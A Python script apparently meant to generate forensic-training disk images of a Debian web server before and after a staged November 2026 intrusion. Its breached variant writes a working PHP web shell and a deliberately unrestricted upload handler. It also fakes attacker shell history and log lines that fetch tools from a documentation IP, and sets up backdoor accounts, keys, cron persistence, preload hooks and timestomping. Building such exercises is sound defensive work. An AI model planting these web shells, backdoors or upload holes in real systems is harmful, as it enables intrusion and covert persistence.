#!/usr/bin/env python3
"""A web server that was broken into, and the same one before: as file system images.

    host.py breached|clean IMAGE        IMAGE becomes an ext4 file system

Everything is made up from nothing, the same at each call: addresses are those kept for
documentation (RFC 5737), programs are a few bytes, packages a name and their md5sums. All
four times of each file are set in the image itself (debugfs), which no mounted file system
lets one do: a host that was installed long ago, and touched on one night in November 2026.

The story of the breached host, all times UTC, 2026-11-19 and 20:

    21:02  203.0.113.66 posts a script to the upload form, and calls it
    22:10  the same address guesses passwords of ssh, and has one at 23:41
    23:50  a tool is unpacked into a hidden directory below /var/tmp, its times set back
    23:55  root's crontab starts it
    00:12  login is replaced, its time set back; a second setuid program, immutable
    00:15  a second user 0, a key for root, a preloaded library
    00:30  histories are put out of the way; the system log has a hole
"""
import gzip
import hashlib
import os
import random
import struct
import subprocess
import sys
import tempfile
from datetime import datetime, timedelta, timezone

INTRUDER = "203.0.113.66"
DROP = "198.51.100.23"          # where its tools come from and its channel is
OFFICE = "192.0.2.10"
HOST = "web1"
UTC = timezone.utc
INSTALLED = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
BUILT = datetime(2025, 11, 1, 12, 0, tzinfo=UTC)    # packages were made
NIGHT = datetime(2026, 11, 19, 21, 0, tzinfo=UTC)
TAKEN = datetime(2026, 11, 21, 8, 0, tzinfo=UTC)


def at(hour, minute, second=0):
    """A time of the night: hours from 21 are of the 19th, the others of the 20th."""
    day = 19 if hour >= 12 else 20
    return datetime(2026, 11, day, hour, minute, second, tzinfo=UTC)


class Image:
    """A tree, and what its inodes are to say."""

    def __init__(self, folder):
        self.folder = folder
        self.inodes = []

    def _set(self, path, mtime, born, changed, mode, owner, flags=0):
        # what a kernel stamps has a fraction, what a package or an intruder sets has none
        part = timedelta(microseconds=int(hashlib.md5(path.encode()).hexdigest()[:5], 16) % 999999 + 1)
        natural = mtime + part
        self.inodes.append((path, mtime if born else natural, born + part if born else natural,
                            (changed or born or mtime) + part, mode, owner, flags))

    def directory(self, path, when=INSTALLED, mode=0o755, owner=(0, 0)):
        os.makedirs(self.folder + path, exist_ok=True)
        self._set(path, when, None, None, 0o040000 | mode, owner)

    def file(self, path, content, when=INSTALLED, born=None, changed=None, mode=0o644, owner=(0, 0),
             immutable=False):
        os.makedirs(os.path.dirname(self.folder + path), exist_ok=True)
        if isinstance(content, str):
            content = content.encode()
        with open(self.folder + path, "wb") as f:
            f.write(content)
        self._set(path, when, born, changed, 0o100000 | mode, owner, 0x80010 if immutable else 0)  # and EXTENTS_FL, which it has

    def link(self, path, target):
        os.makedirs(os.path.dirname(self.folder + path), exist_ok=True)
        os.symlink(target, self.folder + path)

    def _commands(self):
        known = {path for path, *_ in self.inodes}
        for base, names, _ in os.walk(self.folder):
            for name in names:
                path = os.path.join(base, name)[len(self.folder):]
                if path not in known and not os.path.islink(self.folder + path):
                    self._set(path, INSTALLED, None, None, 0o040755, (0, 0))
        for path, mtime, born, changed, mode, (uid, gid), flags in self.inodes:
            for field, value in (("mode", f"0{mode:o}"), ("uid", uid), ("gid", gid)):
                yield f'set_inode_field "{path}" {field} {value}'
            for field, when in (("mtime", mtime), ("atime", mtime), ("ctime", changed), ("crtime", born)):
                yield f'set_inode_field "{path}" {field} @{int(when.timestamp())}'
                nanoseconds = 0 if when.microsecond == 0 else when.microsecond * 1000
                yield f'set_inode_field "{path}" {field}_extra {nanoseconds << 2}'
            if flags:
                yield f'set_inode_field "{path}" flags {flags}'

    def write(self, image):
        subprocess.run(["mke2fs", "-q", "-F", "-t", "ext4", "-I", "256", "-O", "^metadata_csum",
                        "-d", self.folder, image, "64M"], check=True)
        commands = "\n".join(self._commands()) + "\n"
        done = subprocess.run(["debugfs", "-w", "-f", "-", image], input=commands, text=True,
                              capture_output=True, check=True)
        errors = [line for line in done.stderr.splitlines() if not line.startswith("debugfs ")]
        if errors:
            sys.exit("debugfs: " + "; ".join(errors[:3]))


def program(name, text=""):
    """Bytes that look like a program and are none."""
    body = f"this is {name}, a stand-in; usage: {name} [OPTION]\n{text}\n".encode()
    return b"\x7fELF\x02\x01\x01\0" + bytes(8) + hashlib.sha256(name.encode()).digest() * 64 + body


PACKAGES = {    # name: (version, [(path, mode)])
    "login": ("1:4.13", [("/usr/bin/login", 0o755), ("/usr/bin/newgrp", 0o4755), ("/usr/sbin/nologin", 0o755)]),
    "passwd": ("1:4.13", [("/usr/bin/passwd", 0o4755), ("/usr/sbin/useradd", 0o755)]),
    "sudo": ("1.9.13", [("/usr/bin/sudo", 0o4755)]),
    "bash": ("5.2.15", [("/usr/bin/bash", 0o755)]),
    "coreutils": ("9.1", [("/usr/bin/ls", 0o755), ("/usr/bin/cat", 0o755), ("/usr/bin/touch", 0o755)]),
    "procps": ("4.0.2", [("/usr/bin/ps", 0o755), ("/usr/bin/top", 0o755)]),
    "openssh-server": ("1:9.2", [("/usr/sbin/sshd", 0o755)]),
    "apache2-bin": ("2.4.57", [("/usr/sbin/apache2", 0o755)]),
    "cron": ("3.0pl1", [("/usr/sbin/cron", 0o755), ("/usr/bin/crontab", 0o2755)]),
    "libc6": ("2.36", [("/usr/lib/x86_64-linux-gnu/libc.so.6", 0o755),
                       ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", 0o755)]),
    "wget": ("1.21", [("/usr/bin/wget", 0o755)]),
}


def packages(image):
    status = []
    upgraded = datetime(2026, 11, 12, 6, 30, tzinfo=UTC)
    for name, (version, files) in PACKAGES.items():
        # one was upgraded a week before: new files that verify
        when = upgraded if name == "wget" else INSTALLED
        made = upgraded - timedelta(days=20) if name == "wget" else BUILT
        folders = sorted({os.path.dirname(path) for path, _ in files} | {"/usr"})
        for path, mode in files:
            image.file(path, program(path), made, born=when, mode=mode)
        info = f"/var/lib/dpkg/info/{name}"
        image.file(info + ".list", "/.\n" + "".join(p + "\n" for p in folders + [f for f, _ in files]), when)
        image.file(info + ".md5sums", "".join(
            f"{hashlib.md5(program(path)).hexdigest()}  {path[1:]}\n" for path, _ in files), made, born=when)
        status.append(f"Package: {name}\nStatus: install ok installed\nPriority: required\n"
                      f"Maintainer: Packagers <packages@example.org>\nArchitecture: amd64\n"
                      f"Version: {version}\nDescription: stand-in for {name}\n")
    image.file("/var/lib/dpkg/status", "\n".join(status), upgraded)
    image.file("/var/lib/dpkg/arch", "amd64\n")
    image.file("/var/log/dpkg.log", "2026-11-12 06:30:01 upgrade wget:amd64 1.20 1.21\n"
               "2026-11-12 06:30:02 status installed wget:amd64 1.21\n", upgraded)


def accounts(image, breached):
    users = ("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
             "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
             "alex:x:1000:1000:Alex:/home/alex:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/bash\n")
    shadow = ("root:*:20514:0:99999:7:::\ndaemon:*:20514:0:99999:7:::\nwww-data:*:20514:0:99999:7:::\n"
              "alex:$y$j9T$stand$in:20514:0:99999:7:::\ndeploy:$y$j9T$stand$in:20514:0:99999:7:::\n")
    when = INSTALLED
    if breached:
        users += "sysadm:x:0:0::/root:/bin/bash\n"
        shadow += "sysadm:$6$stand$in:20777:0:99999:7:::\n"
        when = at(0, 15, 12)
    image.file("/etc/passwd", users, when)
    image.file("/etc/shadow", shadow, when, mode=0o640, owner=(0, 42))
    image.file("/etc/group", "root:x:0:\nshadow:x:42:\nsudo:x:27:alex\nwww-data:x:33:\nalex:x:1000:\ndeploy:x:1001:\n")
    image.directory("/home/alex", mode=0o750, owner=(1000, 1000))
    image.directory("/home/deploy", mode=0o750, owner=(1001, 1001))
    image.directory("/root", mode=0o700)
    image.file("/root/.ssh/authorized_keys", "ssh-ed25519 "
               "AAAAC3NzaC1lZDI1NTE5AAAAIDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDEy alex@laptop\n"
               + ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGludHJ1ZGVyIGludHJ1ZGVyIGludHJ1ZGVyIDEy root@kali\n"
                  if breached else ""), at(0, 16) if breached else INSTALLED, mode=0o600)
    if breached:
        image.link("/root/.bash_history", "/dev/null")
    else:
        image.file("/root/.bash_history", "apt-get update\napt-get upgrade\nsystemctl status apache2\n",
                   TAKEN - timedelta(days=3), mode=0o600)
    image.file("/home/alex/.bash_history", "#1794300000\nls -l /var/log\n#1794300060\nsudo systemctl reload apache2\n"
               "#1794300090\nwget https://wordpress.example.org/latest.tar.gz\n",
               TAKEN - timedelta(days=4), mode=0o600, owner=(1000, 1000))
    if breached:
        image.file("/home/deploy/.bash_history", "id\nuname -a\nsudo -l\ncd /var/tmp\nmkdir .cache-x\ncd .cache-x\n"
                   f"wget http://{DROP}/x.tgz\ntar xzf x.tgz\n./run\nchattr +i /usr/bin/.sysd\n"
                   "touch -r /usr/bin/newgrp /usr/bin/login\nhistory -c\n", at(0, 31), mode=0o600,
                   owner=(1001, 1001))


def record(kind, pid, line, ident, user, host, when, address=b"\0" * 16):
    return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, pid, line.encode(), ident.encode(), user.encode(),
                       host.encode(), 0, 0, 0, int(when.timestamp()), when.microsecond, address)


def ipv4(text):
    return bytes(map(int, text.split("."))) + bytes(12)


def session(user, host, pid, tty, begin, end):
    yield begin, record(7, pid, tty, tty[-3:], user, host, begin, ipv4(host))
    yield end, record(8, pid, tty, "", "", "", end)


class Syslog:
    def __init__(self):
        self.lines = []

    def add(self, when, text):
        self.lines.append((when, f"{when:%b} {when.day:2d} {when:%H:%M:%S} {HOST} {text}\n"))

    def text(self, since, until):
        return "".join(line for when, line in sorted(self.lines, key=lambda l: l[0]) if since <= when < until)


def logs(image, breached, rng):
    auth, system = Syslog(), Syslog()
    wtmp = [(INSTALLED, record(2, 0, "~", "~~", "reboot", "6.1.0-18-amd64", INSTALLED))]
    btmp = []
    begin = TAKEN - timedelta(days=14)
    pid = 2000
    for hour in range(14 * 24):
        when = begin + timedelta(hours=hour, minutes=17)
        for log in (auth, system):
            log.add(when, f"CRON[{pid}]: " + ("pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
                    if log is auth else "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"))
        pid += 7
        if hour % 24 == 9:      # a working day: mistyped once, then in
            login = begin + timedelta(hours=hour, minutes=2)
            auth.add(login, f"sshd[{pid}]: Failed password for alex from {OFFICE} port 50022 ssh2")
            btmp.append((login, record(6, pid, "ssh:notty", "", "alex", OFFICE, login, ipv4(OFFICE))))
            login += timedelta(seconds=8)
            auth.add(login, f"sshd[{pid}]: Accepted password for alex from {OFFICE} port 50022 ssh2")
            wtmp += session("alex", OFFICE, pid, "pts/0", login, login + timedelta(hours=2))
            auth.add(login + timedelta(minutes=5), f"sudo:     alex : TTY=pts/0 ; PWD=/home/alex ; USER=root ; "
                     "COMMAND=/usr/bin/systemctl reload apache2")
        if hour % 5 == 0:       # the noise of the internet
            other = f"198.51.100.{100 + hour % 100}"
            noise = begin + timedelta(hours=hour, minutes=40)
            auth.add(noise, f"sshd[{pid}]: Invalid user test from {other} port 40000")
            btmp.append((noise, record(6, pid, "ssh:notty", "", "test", other, noise, ipv4(other))))
    if breached:
        guess = at(22, 10)
        while guess < at(23, 41):
            user = rng.choice(["root", "admin", "deploy", "test", "oracle"])
            port = rng.randrange(32768, 60999)
            auth.add(guess, f"sshd[{pid}]: Failed password for {'' if user in ('root', 'deploy') else 'invalid user '}"
                     f"{user} from {INTRUDER} port {port} ssh2")
            btmp.append((guess, record(6, pid, "ssh:notty", "", user, INTRUDER, guess, ipv4(INTRUDER))))
            guess += timedelta(seconds=rng.randrange(9, 15))
            pid += 1
        auth.add(at(23, 41, 7), f"sshd[{pid}]: Accepted password for deploy from {INTRUDER} port 41414 ssh2")
        wtmp += session("deploy", INTRUDER, pid, "pts/1", at(23, 41, 7), at(0, 35))
        auth.add(at(0, 15, 12), f"useradd[{pid + 9}]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, "
                 "from=/dev/pts/1")
        hole = [l for l in system.lines if not at(20, 30) < l[0] < at(4, 0)]
        system.lines = hole
    rotated = TAKEN - timedelta(days=7)
    for name, log in (("auth.log", auth), ("syslog", system)):
        image.file(f"/var/log/{name}", log.text(rotated, TAKEN), TAKEN, born=rotated, mode=0o640, owner=(0, 4))
        image.file(f"/var/log/{name}.1.gz", gzip.compress(log.text(begin, rotated).encode(), mtime=0), rotated,
                   mode=0o640, owner=(0, 4))
    for name, records in (("wtmp", wtmp), ("btmp", btmp)):
        image.file(f"/var/log/{name}", b"".join(r for _, r in sorted(records, key=lambda r: r[0])), TAKEN,
                   born=INSTALLED, mode=0o660, owner=(0, 43))
    last = {0: (INSTALLED, "tty1", ""), 1000: (TAKEN - timedelta(hours=23), "pts/0", OFFICE)}
    if breached:
        last[1001] = (at(23, 41, 7), "pts/1", INTRUDER)
    image.file("/var/log/lastlog", b"".join(
        struct.pack("<i32s256s", int(last[uid][0].timestamp()), last[uid][1].encode(), last[uid][2].encode())
        if uid in last else bytes(292) for uid in range(1002)), TAKEN, born=INSTALLED)


def hit(when, address, request, status=200, size=1234, agent="Mozilla/5.0", referer="-"):
    return when, (f'{address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "{request}" {status} {size} "{referer}" "{agent}"\n')


def web(image, breached, rng):
    lines = []
    www = (33, 33)
    begin = TAKEN - timedelta(days=7)
    for minute in range(0, 7 * 24 * 60, 11):
        when = begin + timedelta(minutes=minute)
        visitor = f"192.0.2.{rng.randrange(50, 250)}"
        page = rng.choice(["/", "/app/index.php", "/app/index.php?page=2", "/style.css", "/favicon.ico"])
        lines.append(hit(when, visitor, f"GET {page} HTTP/1.1"))
        if minute % 440 == 0:
            lines.append(hit(when, visitor, "POST /app/login.php HTTP/1.1", 302, 0))
        if minute % 880 == 0:   # what scans everybody
            lines.append(hit(when, "198.51.100.77", "GET /wp-login.php HTTP/1.1", 404, 196))
    image.directory("/var/www/html/app/uploads", when=at(21, 2, 45) if breached else INSTALLED, owner=www)
    image.file("/var/www/html/app/index.php", "<?php require 'page.php'; show($_GET['page'] ?? 1);\n", INSTALLED)
    image.file("/var/www/html/app/upload.php", "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/'."
               "basename($_FILES['f']['name']));\n", INSTALLED)
    image.file("/var/www/html/app/login.php", "<?php session_start();\n", INSTALLED)
    image.file("/var/www/html/app/uploads/cat.jpg", b"\xff\xd8\xff\xe0 a picture", TAKEN - timedelta(days=30), owner=www)
    image.file("/var/www/html/style.css", "body { margin: 0 }\n", INSTALLED)
    if breached:
        image.file("/var/www/html/app/uploads/img.php", "<?php @eval(base64_decode($_POST['c'])); system($_GET['cmd']);\n",
                   at(21, 2, 45), owner=www)
        lines.append(hit(at(21, 2, 45), INTRUDER, "POST /app/upload.php HTTP/1.1", 200, 31, "python-requests/2.31"))
        lines.append(hit(at(21, 3, 2), INTRUDER, "GET /app/uploads/img.php?cmd=id HTTP/1.1", 200, 54, "curl/8.5.0"))
        lines.append(hit(at(21, 3, 40), INTRUDER, f"GET /app/uploads/img.php?cmd=wget+http://{DROP}/k HTTP/1.1", 200, 80,
                         "curl/8.5.0"))
    lines.sort(key=lambda l: l[0])
    image.file("/var/log/apache2/access.log", "".join(line for _, line in lines), TAKEN, born=begin, mode=0o640, owner=(0, 4))
    image.file("/var/log/apache2/error.log", f"[{begin:%a %b %d %H:%M:%S}.000001 {begin:%Y}] [core:notice] [pid 900] "
               "AH00094: Command line: '/usr/sbin/apache2'\n", begin + timedelta(seconds=1), mode=0o640, owner=(0, 4))


def starts(image, breached):
    image.file("/etc/crontab", "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n")
    image.file("/etc/cron.d/php", "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n")
    image.file("/usr/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\n"
               "ExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n")
    image.link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/usr/lib/systemd/system/ssh.service")
    image.directory("/var/spool/cron/crontabs", mode=0o1730, owner=(0, 108))
    image.file("/var/spool/cron/crontabs/alex", "0 3 * * * /home/alex/backup.sh\n", mode=0o600, owner=(1000, 108))
    if breached:
        image.file("/var/spool/cron/crontabs/root", "*/5 * * * * /var/tmp/.cache-x/run >/dev/null 2>&1\n", at(23, 55),
                   mode=0o600, owner=(0, 108))


def scratch(image, breached):
    for path in ("/tmp", "/var/tmp", "/dev/shm"):
        image.directory(path, when=TAKEN, mode=0o1777)
    for name in (".X11-unix", ".ICE-unix", ".font-unix"):   # hidden, and on every host
        image.directory("/tmp/" + name, mode=0o1777)
    image.directory("/var/tmp/systemd-private-0123456789abcdef-apache2.service-abcdef", mode=0o700)
    if not breached:
        return
    deploy, old = (1001, 1001), datetime(2004, 8, 1, 10, 0, tzinfo=UTC)
    image.directory("/var/tmp/.cache-x", when=at(23, 52), owner=deploy)
    for name in ("run", "bnc", "psf"):
        image.file("/var/tmp/.cache-x/" + name, program(name, f"PRIVMSG NICK JOIN #chan irc {DROP}:6667"), old,
                   born=at(23, 50), changed=at(23, 50), mode=0o755, owner=deploy)
    image.file("/usr/bin/.sysd", program(".sysd", "/bin/sh -i"), BUILT, born=at(0, 12), changed=at(0, 13), mode=0o4755,
               immutable=True)
    image.file("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libpam-cache.so\n", at(0, 18))
    image.file("/usr/lib/x86_64-linux-gnu/libpam-cache.so", program("libpam-cache"), at(0, 18))
    # login: other content, the time of its neighbour
    image.inodes = [i for i in image.inodes if i[0] != "/usr/bin/login"]
    image.file("/usr/bin/login", program("/usr/bin/login", "magic password: stand-in"), BUILT, born=at(0, 12),
               changed=at(0, 12, 40), mode=0o755)


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ("breached", "clean"):
        sys.exit("usage: host.py breached|clean IMAGE")
    breached = sys.argv[1] == "breached"
    with tempfile.TemporaryDirectory() as folder:
        image = Image(folder)
        rng = random.Random(7)
        for name, target in (("bin", "usr/bin"), ("sbin", "usr/sbin"), ("lib", "usr/lib")):
            image.link("/" + name, target)
        image.link("/etc/localtime", "/usr/share/zoneinfo/Etc/UTC")
        image.file("/etc/timezone", "Etc/UTC\n")
        image.file("/etc/hostname", HOST + "\n")
        image.file("/etc/machine-id", hashlib.md5(HOST.encode()).hexdigest() + "\n")
        image.file("/etc/os-release", 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n')
        image.file("/etc/debian_version", "12.5\n")
        image.file("/etc/resolv.conf", "nameserver 192.0.2.1\n", immutable=True)    # administrators do that
        packages(image)
        accounts(image, breached)
        logs(image, breached, rng)
        web(image, breached, rng)
        starts(image, breached)
        scratch(image, breached)
        image.write(sys.argv[2])


main()
